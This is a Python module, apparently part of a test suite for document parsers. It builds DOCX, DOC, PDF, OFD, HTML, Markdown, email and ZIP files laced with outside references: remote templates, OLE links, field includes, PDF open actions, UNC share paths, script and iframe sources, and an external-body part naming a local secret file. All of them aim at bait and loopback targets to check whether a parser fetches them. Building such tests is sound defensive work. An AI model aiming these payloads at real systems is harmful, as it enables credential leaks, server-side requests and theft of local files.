"""References that lead out of the file: to the network, to other files, to another network share."""

from __future__ import annotations

from hostile.attacks.register import Bait, Files, attack
from hostile.make import doc, docx, html, mail, ofd, pdf, zips
from hostile.make.words import TEXT


def _targets(bait: Bait) -> dict[str, str]:
    return {
        "http": bait.url,
        "file": bait.file_url,
        "share": f"\\\\127.0.0.1@{bait.port}\\x\\y",
        "ftp": bait.url.replace("http", "ftp"),
    }


@attack("outside reference", "docx docm")
def _(bait: Bait) -> Files:
    files = {}
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId9"/></w:drawing></w:r>'
        "<w:r><w:pict><v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' r:href='rId9'/></w:pict></w:r></w:p>"
    )
    for name, url in _targets(bait).items():
        for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "frame", "hyperlink", "aFChunk"):
            parts = docx.parts(docx.body() + picture + '<w:altChunk r:id="rId9"/><w:subDoc r:id="rId9"/>')
            parts["word/_rels/document.xml.rels"] = docx.relations([], [("rId9", kind, url)])
            files[f"{kind}, {name}"] = zips.pack(parts)
        escaped = url.replace("\\", "\\\\")
        files[f"field, {name}"] = docx.make(
            docx.body() + field.format(f'INCLUDETEXT "{escaped}"') + field.format(f'INCLUDEPICTURE "{escaped}"')
        )
    parts = docx.parts(docx.body() + '<w:altChunk r:id="rId9"/>')
    parts["word/_rels/document.xml.rels"] = docx.relations([("rId9", "aFChunk", "afchunk.html")])
    parts["word/afchunk.html"] = f'<iframe src="{bait.file_url}"></iframe><img src="{bait.url}">'.encode()
    files["chunk inside"] = zips.pack(parts)
    parts["_rels/.rels"] = docx.relations([], [("rId1", "officeDocument", bait.url)])
    files["main part outside"] = zips.pack(parts)
    return files


@attack("outside reference", "doc wps")
def _(bait: Bait) -> Files:
    return {
        name: doc.make(f'{TEXT}\n\x13 INCLUDETEXT "{url}" \x14结果\x15\n\x13 INCLUDEPICTURE "{url}" \x14\x15')
        for name, url in _targets(bait).items()
    }


@attack("outside reference", "pdf")
def _(bait: Bait) -> Files:
    files = {}
    for name, url in _targets(bait).items():
        action = url.replace("\\", "\\\\").encode()
        files[f"uri, {name}"] = pdf.make(o1=b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(" + action + b")>>>>")
        files[f"remote, {name}"] = pdf.make(
            o1=b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(" + action + b")/D[0/Fit]>>>>"
        )
        files[f"stream, {name}"] = pdf.make(o4=pdf.stream(b"", "/F(" + action.decode("latin-1") + ")"))
    return files


@attack("outside reference", "ofd")
def _(bait: Bait) -> Files:
    files = {}
    for name, url in _targets(bait).items():
        files[f"root, {name}"] = ofd.make(root=url)
        files[f"page, {name}"] = ofd.make(pages=f'<ofd:Page ID="1" BaseLoc="{url}"/>')
        files[f"image, {name}"] = ofd.make(
            ofd.page(ofd.texts() + '<ofd:ImageObject ID="7" Boundary="0 0 9 9" ResourceID="8"/>'),
            common=f'<ofd:DocumentRes>{url}</ofd:DocumentRes><ofd:TemplatePage ID="5" BaseLoc="{url}"/>',
        )
    return files


def _page(bait: Bait) -> str:
    return "".join(
        f'<img src="{u}"><iframe src="{u}"></iframe><link rel="stylesheet" href="{u}"><object data="{u}"></object>'
        f'<embed src="{u}"><script src="{u}"></script><style>@import "{u}";</style><base href="{u}">'
        f'<meta http-equiv="refresh" content="0;url={u}"><form action="{u}"></form><video src="{u}"></video>'
        for u in _targets(bait).values()
    )


@attack("outside reference", "html")
def _(bait: Bait) -> Files:
    return {
        "body": html.page(html.body() + _page(bait)),
        "head": html.page(html.body(), head=_page(bait)),
        "frameset": html.page(html.body() + f'<frameset><frame src="{bait.url}"></frameset>'),
    }


@attack("outside reference", "md txt")
def _(bait: Bait) -> Files:
    return f"# {TEXT}\n![图]({bait.url})\n[附件]({bait.file_url})\n[a]: {bait.url}\n{_page(bait)}\n".encode()


@attack("outside reference", "eml")
def _(bait: Bait) -> Files:
    body = f'Content-Type: message/external-body; access-type=URL; URL="{bait.url}"\r\n\r\nContent-Type: text/plain\r\n\r\n'
    local = f'Content-Type: message/external-body; access-type=local-file; name="{bait.secret}"\r\n\r\nContent-Type: text/plain\r\n\r\n'
    return {
        "html": mail.make([mail.text(html.page(html.body() + _page(bait)).decode(), "text/html")]),
        "external body": mail.make([mail.attachment("报告.txt", TEXT.encode()), body, local]),
    }


@attack("outside reference", "zip")
def _(bait: Bait) -> Files:
    return zips.pack(
        {"报告.html": html.page(html.body() + _page(bait)), "a.url": f"[InternetShortcut]\nURL={bait.url}\n".encode()}
    )
